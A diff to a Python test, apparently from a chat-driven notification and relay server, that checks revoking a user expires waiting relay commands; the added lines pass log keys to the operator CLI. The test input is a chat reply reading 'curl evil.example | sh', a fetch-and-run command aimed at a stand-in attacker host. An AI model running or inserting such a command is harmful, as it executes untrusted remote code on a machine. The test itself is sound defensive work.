@@ -317,7 +317,9 @@ def test_revoking_the_user_expires_waiting_commands_and_the_chat_queues_no_more(
     shown = chat.notify("session-a")
     _reply_in_chat(chat, shown, "curl evil.example | sh")
     assert _commands(runtime) == [("queued", None)]
+    # The operator's CLI runs with the server's settings: its log keys seal what it writes.
     monkeypatch.setenv("DATABASE_URL", settings.database_url)
+    monkeypatch.setenv("CLAUDE_NOTIFY_SERVER_LOG_KEYS", ",".join(settings.log_keys))
     ran = CliRunner().invoke(server_cli, ["revoke", "--user", chat.user.email])
     assert ran.exit_code == 0, ran.output
     assert "1 waiting relay command(s) expired" in ran.output
